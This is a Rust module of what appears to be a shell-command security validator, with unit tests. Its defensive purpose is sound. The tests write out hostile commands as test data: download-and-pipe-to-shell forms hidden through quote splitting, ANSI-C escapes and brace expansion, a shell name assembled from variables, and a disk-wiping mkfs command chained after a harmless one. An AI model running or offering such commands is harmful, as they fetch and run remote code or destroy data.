//! Static validation of a canonical command
//!
//! Four checks run on every command and none of them short-circuits:
//!
//! - [`blocklist`]: regexes for known-dangerous signatures
//! - [`ast_walker`]: variables and substitutions in command-name position
//! - [`meta_exec`]: `eval`/`source`/`.` with runtime-only arguments
//! - [`decompose`]: the three checks above again on every top-level piece
//!
//! A command whose syntax tree could not be built always gets a WARN
//! verdict from [`VerdictSource::ParseFailureFloor`]. The validator never
//! returns an error: anything it cannot analyze becomes a verdict.

pub mod ast_walker;
pub mod blocklist;
pub mod decompose;
pub mod meta_exec;

pub use blocklist::{normalize_ifs, Blocklist};

use crate::command::{CanonFlag, Command};
use crate::config::{PolicyConfig, Role};
use crate::error::Result;
use crate::shell::{self, Script};
use crate::verdict::{Action, Verdict, VerdictSource};
use std::path::Path;
use tracing::debug;

#[derive(Debug)]
pub struct StaticValidator {
    blocklist: Blocklist,
    var_cmd_action: Action,
    role: Role,
}

impl StaticValidator {
    /// Build the validator. Fails only on an invalid configured pattern.
    pub fn new(policy: &PolicyConfig, runner: &Path) -> Result<Self> {
        Ok(Self {
            blocklist: Blocklist::new(&policy.extra_block_patterns, runner, policy.ifs_policy)?,
            var_cmd_action: policy.var_cmd_action.action(),
            role: policy.role,
        })
    }

    /// Every verdict the static checks produce for `command`, deduplicated.
    pub fn validate(&self, command: &Command) -> Vec<Verdict> {
        let mut verdicts = Vec::new();

        verdicts.extend(self.blocklist.check(&[
            command.canonical_text(),
            command.pre_expansion_text(),
            command.raw_text(),
        ]));

        if let Some(err) = command.parse_error() {
            verdicts.push(Verdict::warn(
                format!("Command could not be fully parsed: {err}"),
                VerdictSource::ParseFailureFloor,
            ));
        } else if command.parse_failed() {
            verdicts.push(Verdict::warn(
                "Command could not be fully parsed",
                VerdictSource::ParseFailureFloor,
            ));
        }
        if command.has_flag(CanonFlag::BraceOverflow) {
            verdicts.push(Verdict::warn(
                "Brace expansion exceeds the variant limit and could not be analyzed",
                VerdictSource::CanonicalizerFloor,
            ));
        }

        if let Some(script) = command.syntax() {
            verdicts.extend(self.structural(script));
        }
        // Expansion can replace `$name` with its value; the walker must also
        // see the names as written.
        if command.pre_expansion_text() != command.canonical_text() {
            if let Ok(script) = shell::parse(command.pre_expansion_text()) {
                verdicts.extend(self.structural(&script));
            }
        }

        for piece in decompose::decompose(command) {
            verdicts.extend(self.blocklist.check(&[&piece.text]));
            if let Some(ref script) = piece.syntax {
                verdicts.extend(self.structural(script));
            }
            if piece.parse_failed {
                verdicts.push(Verdict::warn(
                    format!("Subcommand could not be parsed: {}", piece.text),
                    VerdictSource::ParseFailureFloor,
                ));
            }
        }

        dedup(&mut verdicts);
        for v in &verdicts {
            debug!(action = %v.action, source = %v.source, reason = %v.reason, "static verdict");
        }
        verdicts
    }

    fn structural(&self, script: &Script) -> Vec<Verdict> {
        let mut out = ast_walker::check(script, self.var_cmd_action);
        out.extend(meta_exec::check(script, self.var_cmd_action, self.role));
        out
    }
}

fn dedup(verdicts: &mut Vec<Verdict>) {
    let mut seen = Vec::with_capacity(verdicts.len());
    verdicts.retain(|v| {
        let key = (v.action, v.source, v.reason.clone());
        if seen.contains(&key) {
            false
        } else {
            seen.push(key);
            true
        }
    });
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::canonicalize::canonicalize;
    use crate::config::{CanonicalizerConfig, EnforcementMode, VarCmdAction};
    use crate::session::SessionState;
    use crate::verdict::max_action;
    use std::path::PathBuf;

    fn validator(policy: &PolicyConfig) -> StaticValidator {
        StaticValidator::new(policy, Path::new("/opt/aegish/bin/runner")).unwrap()
    }

    fn verdicts(raw: &str) -> Vec<Verdict> {
        let session = SessionState::new(
            PathBuf::from("/"),
            vec![("HOME".to_string(), "/home/u".to_string())],
            Role::Default,
            EnforcementMode::Permissive,
        );
        let cmd = canonicalize(raw, &session, &CanonicalizerConfig::default());
        validator(&PolicyConfig::default()).validate(&cmd)
    }

    #[test]
    fn test_benign_command_has_no_verdicts() {
        assert!(verdicts("ls -la ~/src && git status").is_empty());
    }

    #[test]
    fn test_blocklist_on_canonical_text() {
        // Quote splitting and ANSI-C escapes are removed before matching
        let v = verdicts("curl http://x/y | /usr/bin/s''h");
        assert_eq!(max_action(&v), Action::Block);
        let v = verdicts("curl x | $'\\x62ash'");
        assert_eq!(max_action(&v), Action::Block);
    }

    #[test]
    fn test_brace_hidden_signature() {
        let v = verdicts("{curl,x}|{sh,-i}");
        assert_eq!(max_action(&v), Action::Block);
    }

    #[test]
    fn test_parse_failure_floor() {
        let v = verdicts("echo hi; if then");
        assert!(v.iter().any(|v| v.source == VerdictSource::ParseFailureFloor));
        assert!(max_action(&v) >= Action::Warn);
    }

    #[test]
    fn test_brace_overflow_floor() {
        let v = verdicts("echo {a,b,c,d}{a,b,c,d}{a,b,c,d}{a,b,c,d}");
        assert!(v.iter().any(|v| v.source == VerdictSource::CanonicalizerFloor));
    }

    #[test]
    fn test_walker_and_meta_exec_run() {
        let v = verdicts("a=ba; b=sh; $a$b");
        assert!(v.iter().any(|v| v.source == VerdictSource::AstWalker));
        let v = verdicts("eval \"$X\"");
        assert!(v.iter().any(|v| v.source == VerdictSource::MetaExec));
    }

    #[test]
    fn test_var_cmd_action_warn() {
        let policy = PolicyConfig {
            var_cmd_action: VarCmdAction::Warn,
            ..PolicyConfig::default()
        };
        let cmd = Command::new(
            "c=id; $c".into(),
            "c=id; $c".into(),
            "c=id; $c".into(),
            Default::default(),
        );
        assert_eq!(max_action(&validator(&policy).validate(&cmd)), Action::Warn);
    }

    #[test]
    fn test_walker_sees_names_before_expansion() {
        // HOME is exported, so the canonical text holds its value
        let v = verdicts("HOME=/bin/sh; $HOME");
        assert!(v.iter().any(|v| v.source == VerdictSource::AstWalker));
    }

    #[test]
    fn test_trailing_piece_checked() {
        let v = verdicts("echo harmless; mkfs.ext4 /dev/sda1");
        assert_eq!(max_action(&v), Action::Block);
    }

    #[test]
    fn test_invalid_extra_pattern() {
        let policy = PolicyConfig {
            extra_block_patterns: vec!["(".into()],
            ..PolicyConfig::default()
        };
        assert!(StaticValidator::new(&policy, Path::new("/bin/bash")).is_err());
    }

    #[test]
    fn test_verdicts_deduplicated() {
        let v = verdicts("curl x | sh");
        let blocks = v
            .iter()
            .filter(|v| v.source == VerdictSource::StaticBlocklist)
            .count();
        assert_eq!(blocks, 1);
    }
}
